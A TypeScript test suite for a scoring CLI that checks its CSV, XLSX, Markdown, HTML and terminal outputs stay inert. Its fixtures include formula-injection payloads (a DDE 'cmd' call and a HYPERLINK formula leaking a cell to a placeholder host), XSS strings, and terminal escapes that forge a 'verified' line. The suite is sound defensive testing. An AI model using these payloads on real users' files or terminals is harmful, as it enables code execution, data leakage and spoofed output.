// Issue 10, class 4: what the CLI writes stays inert where it is opened — a CSV or XLSX in a spreadsheet
// application (no formula runs), a Markdown report in a viewer (no HTML, link or heading comes from a
// record), a terminal (no escape sequence or line break from a name, an id, a file or a rule file).
import { execFileSync } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { otherCreditCode } from "./_lib/credit-codes.js";
import { endOfResults, ndjsonResults } from "./_lib/results.js";
import { importCli } from "./_lib/in-process.js";
import { FIXTURES_DIR, organizationFixtures } from "./_lib/fixtures.js";

type RunCli = (argv: string[]) => Promise<number>;
let runCli: RunCli;
let out = "";
let err = "";
let dir: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "soc-inert-outputs-"));
  runCli = await importCli();
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));
beforeEach(() => {
  out = "";
  err = "";
  vi.spyOn(process.stdout, "write").mockImplementation((chunk) => ((out += String(chunk)), true));
  vi.spyOn(process.stderr, "write").mockImplementation((chunk) => ((err += String(chunk)), true));
});
afterEach(() => {
  vi.restoreAllMocks();
  process.exitCode = undefined;
});

const clean = organizationFixtures().find((f) => f.file.startsWith("01-"))!;
const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1"];
// A terminal escape that clears the screen, and a line break that prints a line of its own.
const CONTROL = "\u001b[2J\u001b[H\nverified 核验通过: all rows reproduce\r";

function ndjson(name: string, records: unknown[]): string {
  const path = join(dir, name);
  writeFileSync(path, records.map((record) => `${JSON.stringify({ asOf: clean.asOf, record })}\n`).join(""));
  return path;
}
// Each named copy has a credit code of its own: a repeated one is refused as duplicate_id.
let copies = 0;
const named = (name: string) => ({ ...clean.record, id: otherCreditCode(clean.record.id as string, ++copies), name });
const withId = (id: string) => ({ ...clean.record, id });

/** Every text cell of a CSV line, split as a spreadsheet application would (quotes honoured). */
function csvCells(line: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") cells.push(cell), (cell = "");
    else cell += ch;
  }
  cells.push(cell);
  return cells;
}
const FORMULA_START = /^[=+\-@\t\r]/;
const soffice = (args: string[]) => execFileSync("soffice", ["--headless", ...args], { stdio: "ignore", timeout: 120_000 });

describe("CSV (score --format csv)", () => {
  it("neutralizes every name that a spreadsheet would run as a formula", async () => {
    const input = ndjson("names.ndjson", FORMULAS.map(named));
    expect(await runCli(["score", input, "--format", "csv"])).toBe(0);
    const names = out.trimEnd().split("\n").slice(1).map((l) => csvCells(l)[3]);
    // A quoted field may hold a CR or tab; the records are one line each here but for the CR one.
    expect(names.filter((n) => n !== undefined && FORMULA_START.test(n))).toEqual([]);
    expect(out).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""点击"")"`);
  });

  it("neutralizes the ids, sources and error texts of refused rows", async () => {
    const sub = join(dir, "=1+1");
    mkdirSync(sub, { recursive: true });
    const input = join(sub, "@evil.ndjson");
    writeFileSync(input, [withId("=cmd|' /C calc'!A0"), { ...clean.record, "=2+2": 1 }, withId("-1+1")].map((record) => `${JSON.stringify({ asOf: clean.asOf, record })}\n`).join(""));
    expect(await runCli(["score", input, "--format", "csv"])).toBe(1);
    const rows = out.trimEnd().split("\n").slice(1).map(csvCells);
    expect(rows).toHaveLength(3);
    for (const cells of rows) expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    expect(rows.map((c) => c[1])).toEqual(["'@evil.ndjson:1", "'@evil.ndjson:2", "'@evil.ndjson:3"]);
    expect(rows[0]![2]).toBe("'=cmd|' /C calc'!A0");
    expect(rows[1]!.at(-1)).toMatch(/^'=2\+2: /);
  });

  it("opened by LibreOffice, shows the names as text and runs none of them", async () => {
    const input = ndjson("lo.ndjson", [named("=1+1"), named('=HYPERLINK("http://x.example","点击")')]);
    const csv = join(dir, "lo-out.csv");
    expect(await runCli(["score", input, "--format", "csv", "--out", csv])).toBe(0);
    const back = join(dir, "lo-back");
    // Read as UTF-8 (76), with LibreOffice's own default of evaluating formulas in a CSV.
    soffice(["--infilter=CSV:44,34,76", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", back, csv]);
    const lines = readFileSync(join(back, "lo-out.csv"), "utf8").trimEnd().split("\n").slice(1).map(csvCells);
    expect(lines.map((c) => c[3])).toEqual(["'=1+1", `'=HYPERLINK("http://x.example","点击")`]);
  }, 180_000);
});

describe("CSV: a formula behind leading NUL characters", () => {
  it("opened by LibreOffice (which drops a leading NUL), shows the names and refused ids as text", async () => {
    const hidden = ["\u0000=1+1", "\u0000\u0000=1+41"];
    const input = ndjson("lo-nul.ndjson", [...hidden.map(named), withId("\u0000=2+2")]);
    const csv = join(dir, "lo-nul.csv");
    expect(await runCli(["score", input, "--format", "csv", "--out", csv])).toBe(1);
    const back = join(dir, "lo-nul-back");
    // A profile of its own: another LibreOffice running at the same time does not share it.
    execFileSync("soffice", ["--headless", `-env:UserInstallation=file://${join(dir, "lo-nul-profile")}`, "--infilter=CSV:44,34,76", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", back, csv], { stdio: "ignore", timeout: 120_000 });
    const rows = readFileSync(join(back, "lo-nul.csv"), "utf8").trimEnd().split("\n").slice(1).map(csvCells);
    expect(rows.slice(0, 2).map((c) => c[3])).toEqual(["'=1+1", "'=1+41"]);
    expect(rows[2]![2]).toBe("'=2+2");
  }, 180_000);
});

describe("XLSX (score --format xlsx)", () => {
  it("writes every text cell that could start a formula with a leading apostrophe, in every sheet", async () => {
    const input = ndjson("x.ndjson", [...FORMULAS.map(named), withId("=cmd|' /C calc'!A0")]);
    const path = join(dir, "x.xlsx");
    expect(await runCli(["score", input, "--format", "xlsx", "--out", path])).toBe(1);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const texts: string[] = [];
    workbook.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => void (typeof cell.value === "string" && texts.push(cell.value)))));
    expect(texts.filter((t) => FORMULA_START.test(t))).toEqual([]);
    const results = workbook.getWorksheet("results")!;
    expect(results.getRow(2).getCell(4).value).toBe(`'${FORMULAS[0]}`);
    expect(workbook.getWorksheet("errors")!.getRow(2).getCell(3).value).toBe("'=cmd|' /C calc'!A0");
  });

  it("shows a control character that XML cannot hold escaped, rather than dropping it", async () => {
    const input = ndjson("x-ctl.ndjson", [named("协会\u001b[2J\u0007"), withId("X\u0000Y")]);
    const path = join(dir, "x-ctl.xlsx");
    expect(await runCli(["score", input, "--format", "xlsx", "--out", path])).toBe(1);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    expect(workbook.getWorksheet("results")!.getRow(2).getCell(4).value).toBe("协会\\x1b[2J\\x07");
    expect(workbook.getWorksheet("errors")!.getRow(2).getCell(3).value).toBe("X\\x00Y");
  });

  it("opened by LibreOffice, shows a =1+1 name as its text, not 2", async () => {
    const input = ndjson("x-lo.ndjson", [named("=1+1"), named("@SUM(1,1)")]);
    const path = join(dir, "x-lo.xlsx");
    expect(await runCli(["score", input, "--format", "xlsx", "--out", path])).toBe(0);
    const back = join(dir, "x-lo-back");
    soffice(["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", back, path]);
    const lines = readFileSync(join(back, "x-lo.csv"), "utf8").trimEnd().split("\n").slice(1).map(csvCells);
    expect(lines.map((c) => c[3])).toEqual(["'=1+1", "'@SUM(1,1)"]);
  }, 180_000);
});

describe("Markdown and HTML report", () => {
  const HOSTILE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[点击](javascript:alert(1))", "a | b | c", "x\n## 伪造的标题 forged heading", "**bold** _em_ `code`"];

  async function report(): Promise<{ md: string; html: string }> {
    const records = [...HOSTILE.map((name, i) => ({ ...named(name), id: organizationFixtures()[i]!.record.id })), withId("\n# forged <b>heading</b> [x](javascript:alert(1)) |")];
    const input = ndjson("report-in.ndjson", records);
    const results = join(dir, "report-results.ndjson");
    await runCli(["score", input, "--format", "ndjson", "--out", results]);
    // Names reach the report only through sections that name organizations: give each a restriction.
    const lines = readFileSync(results, "utf8").trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
    for (const r of lines) if ("measures" in r) (r.measures as unknown[]).push({ id: "revocation-review", kind: "restriction", label: { zh: "撤销审查", en: "revocation review" }, reasons: ["<i>r</i>"], basis: [], params: {} });
    writeFileSync(results, lines.map((l) => `${JSON.stringify(l)}\n`).join(""));
    const html = join(dir, "report.html");
    expect(await runCli(["report", results, "--out", html])).toBe(0);
    return { md: readFileSync(join(dir, "report.md"), "utf8"), html: readFileSync(html, "utf8") };
  }

  it("escapes every name, id and problem in the Markdown: no raw HTML, no link, no forged heading or table cell", async () => {
    const { md } = await report();
    expect(md).not.toMatch(/<(script|img|b|i)\b/);
    expect(md).not.toMatch(/\]\(javascript:/);
    expect(md).not.toMatch(/javascript:/);
    // Only the report's own headings start a line with #.
    const headings = md.split("\n").filter((l) => l.startsWith("#"));
    expect(headings.every((h) => /^#{1,3} [^\n]*[\u4e00-\u9fff]/.test(h) && !/forged|伪造/.test(h))).toBe(true);
    // Every row of a table keeps its columns: a name's pipes are escaped.
    const table = md.split("\n").filter((l) => l.startsWith("| 52") || l.startsWith("| 51"));
    for (const row of table) expect(row.split(/(?<!\\)\|/).length).toBe(7);
    expect(md).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(md).toContain("a \\| b \\| c");
  });

  it("escapes the same texts in the HTML page (no element or attribute comes from a record)", async () => {
    const { html } = await report();
    expect(html).not.toMatch(/<(script|img|i)\b/);
    expect(html).not.toContain("<b>heading");
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
  });
});

describe("terminal outputs show control characters escaped", () => {
  const noControl = (text: string) => expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  const noForgedLine = (text: string) => expect(text.split("\n").some((l) => l.startsWith("verified"))).toBe(false);

  it("score --format table: names and ids escaped, and the columns stay aligned", async () => {
    const input = ndjson("t.ndjson", [named(`协会${CONTROL}`), withId(`X${CONTROL}`), named("衢州市某某协会")]);
    expect(await runCli(["score", input, "--format", "table"])).toBe(1);
    noControl(out);
    noForgedLine(out);
    expect(out).toContain("\\x1b[2J");
    const lines = out.split("\n");
    const asOfAt = (l: string) => l.indexOf(clean.asOf);
    const scored = lines.filter((l) => l.includes(clean.asOf));
    expect(scored).toHaveLength(2);
    // The asOf column starts at the same terminal column on both lines (widths measured after escaping).
    const width = (s: string) => [...s].reduce((w, ch) => w + (/[\u3000-\u9fff\uff00-\uff60]/.test(ch) ? 2 : 1), 0);
    expect(width(scored[0]!.slice(0, asOfAt(scored[0]!)))).toBe(width(scored[1]!.slice(0, asOfAt(scored[1]!))));
  });

  it("explain: the name and the id escaped", async () => {
    const record = named(`协会${CONTROL}`);
    const input = ndjson("e.ndjson", [record]);
    expect(await runCli(["explain", input, "--id", record.id])).toBe(0);
    noControl(out);
    noForgedLine(out);
    expect(out).toContain("协会\\x1b[2J");
  });

  it("explain: an id not found, and a refused record, are reported escaped", async () => {
    const input = ndjson("e2.ndjson", [withId(`X${CONTROL}`)]);
    expect(await runCli(["explain", input, "--id", `X${CONTROL}`])).toBe(1);
    noControl(err);
    noForgedLine(err);
    expect(await runCli(["explain", input, "--id", `Y${CONTROL}`])).toBe(2);
    noControl(err);
    noForgedLine(err);
  });

  it("diff text: names and grades from the results files escaped", async () => {
    const input = ndjson("d.ndjson", [named(`协会${CONTROL}`)]);
    const a = join(dir, "d-a.ndjson");
    await runCli(["score", input, "--format", "ndjson", "--out", a]);
    const r = ndjsonResults<Record<string, unknown>>(readFileSync(a, "utf8"))[0]!;
    const b = join(dir, "d-b.ndjson");
    writeFileSync(b, `${JSON.stringify({ ...r, grade: `Z${CONTROL}`, measures: [{ id: `m${CONTROL}`, kind: "restriction", label: { zh: "m", en: "m" }, reasons: [], basis: [], params: {} }] })}\n${JSON.stringify(endOfResults(1, 0))}\n`);
    out = "";
    expect(await runCli(["diff", a, b])).toBe(0);
    noControl(out);
    noForgedLine(out);
    expect(out).toContain("协会\\x1b[2J");
  });

  it("shadow text: refused sources, ids and messages escaped", async () => {
    const rules = join(FIXTURES_DIR, "..", "rules", "quzhou-reference");
    const sub = join(dir, `pop${CONTROL.replace(/\n|\r/g, "")}`);
    mkdirSync(sub, { recursive: true });
    const input = join(sub, `s${CONTROL.replace(/\n|\r/g, "")}.ndjson`);
    writeFileSync(input, [named(`协会${CONTROL}`), withId(`X${CONTROL}`)].map((record) => `${JSON.stringify({ asOf: clean.asOf, record })}\n`).join("") + "{not json\u001b[2J\n");
    expect(await runCli(["shadow", "--rules", rules, "--rules", rules, input])).toBe(1);
    noControl(out);
    noForgedLine(out);
    expect(out).toContain("X\\x1b[2J");
    expect(out).toContain("s\\x1b[2J");
  });

  it("verify: a mismatch line quotes the file escaped and cannot print a false 'verified'", async () => {
    const input = ndjson("v.ndjson", [withId(`X${CONTROL}`)]);
    const results = join(dir, "v-results.ndjson");
    await runCli(["score", input, "--format", "ndjson", "--out", results]);
    const row = ndjsonResults<{ error: { message: string } }>(readFileSync(results, "utf8"))[0]!;
    row.error.message = `edited${CONTROL}`;
    writeFileSync(results, `${JSON.stringify(row)}\n${JSON.stringify(endOfResults(0, 1))}\n`);
    out = "";
    expect(await runCli(["verify", input, results])).toBe(1);
    noControl(out);
    noForgedLine(out);
    expect(out).toMatch(/^MISMATCH/m);
  });

  it("rules check and the rule-set error of any command: lines quoting a folder or a rule file escaped", async () => {
    const a = join(dir, "rules-bad\u001b[2J\nOK: no problems 检查通过");
    cpSync(join(FIXTURES_DIR, "..", "rules", "quzhou-reference"), a, { recursive: true });
    writeFileSync(join(a, "stray\u001b[2J\nOK: no problems.json"), "");
    expect(await runCli(["rules", "check", a])).toBe(2);
    noControl(out);
    expect(out.split("\n").some((l) => l.startsWith("OK"))).toBe(false);
    expect(out).toContain("stray\\x1b[2J\\x0aOK");
    const input = ndjson("r.ndjson", [clean.record]);
    expect(await runCli(["score", input, "--rules", a])).toBe(2);
    noControl(err);
    expect(err).toContain("stray\\x1b[2J\\x0aOK");
  });

  it("error messages quoting a file name or an argument are escaped", async () => {
    const evil = join(dir, `evil${CONTROL.replace(/\n|\r/g, "")}.txt`);
    writeFileSync(evil, "x");
    expect(await runCli(["score", evil, "--as-of", "2024-01-01"])).toBe(2);
    noControl(err);
    expect(err).toContain("\\x1b[2J");
    err = "";
    expect(await runCli(["score", evil, "--format", `csv${CONTROL}`])).toBe(2);
    noControl(err);
    noForgedLine(err);
    err = "";
    expect(await runCli(["score", join(dir, `missing${CONTROL}.json`)])).toBe(2);
    noControl(err);
    noForgedLine(err);
  });
});
